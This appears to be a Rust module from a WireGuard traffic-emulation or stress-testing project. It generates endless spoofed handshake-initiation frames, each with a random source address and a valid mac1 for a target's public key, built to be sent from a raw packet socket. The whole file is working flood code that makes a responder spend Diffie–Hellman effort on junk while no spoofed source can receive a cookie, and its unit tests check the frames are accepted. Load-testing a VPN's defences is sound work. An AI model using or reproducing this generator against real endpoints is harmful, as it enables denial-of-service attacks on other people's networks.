//! Spoofed WireGuard handshake initiations as whole Ethernet frames, for
//! a packet socket to send without the kernel's routing or checks.
//!
//! ```text
//! Ethernet (14): target's MAC · attacker's MAC · IPv4
//! IPv4 (20):     random id, DF, TTL 64, UDP, checksum · spoofed source · target
//! UDP (8):       random source port · target's port · length · checksum
//! initiation (148): type 1 · random sender, ephemeral, static, timestamp ·
//!                valid mac1 for the target's public key · zero mac2
//! ```
//!
//! The initiation is what anyone who knows a responder's public key can
//! make: mac1 is right, so the responder has to look further, but the
//! ephemeral and encrypted fields are noise, so whatever Diffie–Hellman
//! work it does ends in a failed decryption. mac2 is zero: nobody gave
//! the spoofed sources a cookie, and none of them can receive one.
//!
//! Messages come from a pool made once (a BLAKE2s each), sources are
//! drawn per frame: every frame is a different (source, message) pair,
//! and a frame costs a few dozen additions.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::Instant;

use fjord_proto::PublicKey;
use fjord_proto::cookie::{CookieState, MacLayout};
use fjord_proto::wire::{HANDSHAKE_INITIATION_LEN, MESSAGE_TYPE_HANDSHAKE_INITIATION};

use crate::emulator::rng::Rng;
use crate::traffic::packet::{IPV4_UDP_HEADERS_LEN, sum_words, write_ipv4_udp_headers};

const ETHERNET_HEADER_LEN: usize = 14;
const ETHERTYPE_IPV4: u16 = 0x0800;
/// Bytes of one spoofed initiation on the wire, Ethernet header included.
pub const INITIATION_FRAME_LEN: usize =
    ETHERNET_HEADER_LEN + IPV4_UDP_HEADERS_LEN + HANDSHAKE_INITIATION_LEN;
/// Distinct initiations in the pool.
const POOL_SIZE: usize = 4096;
/// Lowest source port drawn (below it: well-known ports).
const LOWEST_SOURCE_PORT: u16 = 1024;

/// The message type's bytes; everything from there to mac1 is noise.
const MESSAGE_TYPE_LEN: usize = 4;
const MAC1: usize = MacLayout::INITIATION.mac1;

const IP: usize = ETHERNET_HEADER_LEN;
#[cfg(test)]
const UDP: usize = IP + crate::traffic::packet::IPV4_HEADER_LEN;
const MESSAGE: usize = IP + IPV4_UDP_HEADERS_LEN;

/// An IPv4 prefix the spoofed sources are drawn from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SourcePrefix {
    network: Ipv4Addr,
    prefix_len: u8,
}

impl SourcePrefix {
    /// `network/prefix_len`; host bits of `network` are ignored. At most a
    /// /30, so there are hosts to draw besides network and broadcast.
    pub fn new(network: Ipv4Addr, prefix_len: u8) -> Option<Self> {
        (prefix_len <= 30).then(|| Self {
            network: Ipv4Addr::from(u32::from(network) & Self::mask(prefix_len)),
            prefix_len,
        })
    }

    fn mask(prefix_len: u8) -> u32 {
        u32::MAX
            .checked_shl(32 - u32::from(prefix_len))
            .unwrap_or(0)
    }

    pub fn contains(&self, address: Ipv4Addr) -> bool {
        u32::from(address) & Self::mask(self.prefix_len) == u32::from(self.network)
    }

    /// A host address of the prefix (never the network or broadcast
    /// address) from 32 random bits.
    fn host(&self, random: u32) -> Ipv4Addr {
        let host_bits = !Self::mask(self.prefix_len);
        // Hosts 1 ..= host_bits - 1: skip the all-zeros and all-ones hosts.
        let host = 1 + random % (host_bits - 1);
        Ipv4Addr::from(u32::from(self.network) | host)
    }
}

impl std::fmt::Display for SourcePrefix {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}/{}", self.network, self.prefix_len)
    }
}

/// Where the frames go and what they pretend to be.
#[derive(Debug, Clone)]
pub struct FloodTarget {
    /// The responder's address and WireGuard port.
    pub address: SocketAddrV4,
    /// The responder's public key, for mac1.
    pub public_key: PublicKey,
    /// MAC address of the target's interface the frames arrive at.
    pub destination_mac: [u8; 6],
    /// MAC address of the attacker's interface.
    pub source_mac: [u8; 6],
    pub sources: SourcePrefix,
}

/// An endless supply of spoofed initiation frames for one target.
pub struct SpoofedInitiations {
    target: FloodTarget,
    /// Messages with a valid mac1, and each one's checksum sum.
    pool: Vec<([u8; HANDSHAKE_INITIATION_LEN], u32)>,
    next: usize,
    rng: Rng,
}

impl SpoofedInitiations {
    /// A pool of random initiations for `target`, drawn from `seed`.
    pub fn new(target: FloodTarget, seed: u64) -> Self {
        let mut rng = Rng::seeded(seed);
        let mut macs = CookieState::new(&target.public_key);
        let now = Instant::now();
        let pool = (0..POOL_SIZE)
            .map(|_| {
                let mut message = [0u8; HANDSHAKE_INITIATION_LEN];
                for chunk in message[MESSAGE_TYPE_LEN..MAC1].chunks_mut(8) {
                    let random = rng.next_u64().to_le_bytes();
                    chunk.copy_from_slice(&random[..chunk.len()]);
                }
                message[..MESSAGE_TYPE_LEN]
                    .copy_from_slice(&MESSAGE_TYPE_HANDSHAKE_INITIATION.to_le_bytes());
                macs.write_macs(now, &mut message, MacLayout::INITIATION);
                let sum = sum_words(&message);
                (message, sum)
            })
            .collect();
        Self {
            target,
            pool,
            next: 0,
            rng,
        }
    }

    /// Writes the next frame: the next message of the pool, from a fresh
    /// random source address and port.
    pub fn write_next(&mut self, frame: &mut [u8; INITIATION_FRAME_LEN]) {
        let (message, message_sum) = &self.pool[self.next];
        self.next = (self.next + 1) % self.pool.len();
        let random = self.rng.next_u64();
        let source = self.target.sources.host(random as u32);
        let source_port = LOWEST_SOURCE_PORT + ((random >> 32) as u16 % (u16::MAX - 1023));
        let identification = (random >> 48) as u16;

        frame[..6].copy_from_slice(&self.target.destination_mac);
        frame[6..12].copy_from_slice(&self.target.source_mac);
        frame[12..14].copy_from_slice(&ETHERTYPE_IPV4.to_be_bytes());
        write_ipv4_udp_headers(
            &mut frame[IP..MESSAGE],
            SocketAddrV4::new(source, source_port),
            self.target.address,
            identification,
            HANDSHAKE_INITIATION_LEN,
            *message_sum,
        );
        frame[MESSAGE..].copy_from_slice(message);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use fjord_proto::PrivateKey;
    use fjord_proto::cookie::CookieChecker;

    fn target() -> FloodTarget {
        FloodTarget {
            address: "198.18.0.2:51820".parse().unwrap(),
            public_key: PrivateKey::from_bytes([3; 32]).public_key(),
            destination_mac: [2, 0, 0, 0, 0, 2],
            source_mac: [2, 0, 0, 0, 0, 1],
            sources: SourcePrefix::new(Ipv4Addr::new(198, 18, 128, 0), 17).unwrap(),
        }
    }

    #[test]
    fn frames_are_valid_ipv4_udp_with_a_mac1_the_target_accepts() {
        let target = target();
        let checker = CookieChecker::new(&target.public_key);
        let mut initiations = SpoofedInitiations::new(target.clone(), 7);
        let mut frame = [0u8; INITIATION_FRAME_LEN];
        let mut sources = std::collections::HashSet::new();
        for _ in 0..1000 {
            initiations.write_next(&mut frame);
            assert_eq!(&frame[..6], &target.destination_mac);
            assert_eq!(&frame[12..14], &[0x08, 0x00]);
            crate::traffic::packet::assert_valid_ipv4_udp(&frame[IP..]);
            let ip = &frame[IP..UDP];
            let source = Ipv4Addr::new(ip[12], ip[13], ip[14], ip[15]);
            assert!(target.sources.contains(source), "{source}");
            assert_eq!(&ip[16..20], &[198, 18, 0, 2]);
            assert_eq!(u16::from_be_bytes([frame[UDP + 2], frame[UDP + 3]]), 51820);
            let message = &frame[MESSAGE..];
            assert_eq!(message[0], 1);
            assert!(checker.check_mac1(message, MacLayout::INITIATION));
            assert_eq!(&message[MacLayout::INITIATION.mac2..], &[0u8; 16]);
            sources.insert((source, u16::from_be_bytes([frame[UDP], frame[UDP + 1]])));
        }
        assert!(sources.len() > 990, "sources repeat: {}", sources.len());
    }

    #[test]
    fn hosts_avoid_network_and_broadcast_addresses() {
        let prefix = SourcePrefix::new(Ipv4Addr::new(198, 18, 1, 77), 30).unwrap();
        assert_eq!(prefix.to_string(), "198.18.1.76/30");
        for random in [0, 1, 2, 3, u32::MAX] {
            let host = prefix.host(random).octets()[3];
            assert!((77..=78).contains(&host), "{host}");
        }
        assert!(SourcePrefix::new(Ipv4Addr::new(198, 18, 0, 0), 31).is_none());
    }
}
